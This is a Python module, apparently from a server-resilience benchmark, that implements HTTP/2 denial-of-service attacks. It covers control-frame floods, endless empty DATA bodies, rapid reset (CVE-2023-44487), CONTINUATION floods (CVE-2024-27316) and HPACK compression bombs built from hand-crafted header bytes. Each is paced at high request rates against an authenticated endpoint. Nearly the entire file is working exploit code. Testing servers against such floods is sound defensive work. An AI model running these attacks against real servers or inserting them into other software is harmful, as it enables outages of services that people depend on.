"""Frames of HTTP/2 that cost their sender nothing."""

from typing import Final

from bench.attack.attacker import Attack, Attacker
from bench.attack.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    Pool,
    bearer,
    block,
    frame,
    get,
)

FLOODS: Final = {
    "PING": frame(PING, b"\0" * 8),
    "SETTINGS": frame(SETTINGS),
    "PRIORITY": b"".join(frame(PRIORITY, b"\0\0\0\0\x10", stream=stream) for stream in range(1, 41, 2)),
    "WINDOW_UPDATE": frame(WINDOW_UPDATE, b"\0\0\0\1"),
    "RST_STREAM": frame(RST_STREAM, b"\0\0\0\x08", stream=1),
    "unknown frames": frame(0xBE, b"x" * 16),
}
_AT_ONCE: Final = 100


async def floods(attacker: Attacker) -> None:
    """Floods connections with frames that carry no request, one kind after the other."""
    kinds = [flood * _AT_ONCE for flood in FLOODS.values()]
    connections: dict[int, Http2] = {}
    async for number in attacker.paced(4000, rate=500):
        kind = number % len(kinds)
        if kind not in connections or connections[kind].is_closed:
            if kind in connections:
                attacker.cost.answers["closed"] += 1
            connections[kind] = await Http2.open(attacker)
        attacker.cost.calls += _AT_ONCE
        await connections[kind].send(kinds[kind])


async def empty_data(attacker: Attacker) -> None:
    """Sends a body of empty DATA frames that never ends."""
    pool = Pool(attacker)
    headers = get("/v1/users", bearer(attacker.token()), ("content-type", "application/json"), method="POST")
    stream = 0
    async for number in attacker.paced(2000, rate=250):
        connection = await pool.get()
        if number % 100 == 0 or connection.is_closed or not connection.open_streams:
            stream = await connection.begin(headers, ends=False)
        attacker.cost.calls += _AT_ONCE
        await connection.send(frame(DATA, stream=stream) * _AT_ONCE)


async def rapid_reset(attacker: Attacker) -> None:
    """Begins calls and resets each at once (CVE-2023-44487)."""
    pool = Pool(attacker)
    headers = get("/v1/users?pageSize=1000", bearer(attacker.token()))
    async for _ in attacker.paced(20_000, rate=2500):
        connection = await pool.get()
        await connection.reset(await connection.begin(headers))


async def continuations(attacker: Attacker) -> None:
    """Sends headers that never end, in CONTINUATION frames (CVE-2024-27316)."""
    part = frame(CONTINUATION, block([("x", "x" * (FRAME_BYTES - 8))])[:FRAME_BYTES], stream=1)
    small = frame(CONTINUATION, block([("x", "y")]), stream=1) * _AT_ONCE
    async for number in attacker.paced(200, rate=25):
        connection = await Http2.open(attacker)
        attacker.cost.calls += 1
        await connection.send(frame(HEADERS, block(get("/v1/users")), stream=1))
        for _ in range(64):
            if not await connection.send(part if number % 2 else small):
                attacker.cost.answers["closed"] += 1
                break


async def hpack_bombs(attacker: Attacker) -> None:
    """Sends one large header once and names it thousands of times with a byte each; crumbs of a cookie, too."""
    for_all = block(get("/v1/users", bearer(attacker.token())))
    # A literal with incremental index becomes entry 62, which one byte names.
    large = b"\x40\x01x\x7f\x81\x1e" + b"x" * 4000
    cookie = b"\x60\x7f\x81\x1e" + b"x" * 4000
    async for number in attacker.paced(2000, rate=100):
        connection = await Http2.open(attacker)
        attacker.cost.calls += 1
        bomb = for_all + (large if number % 2 else cookie) + b"\xbe" * 8000
        await connection.send(frame(HEADERS, bomb, flags=END_HEADERS | END_STREAM, stream=1))


ATTACKS: Final = (
    Attack("ping, settings, priority floods", floods),
    Attack("empty DATA frames", empty_data),
    Attack("rapid reset", rapid_reset),
    Attack("CONTINUATION flood", continuations),
    Attack("HPACK bombs", hpack_bombs),
)
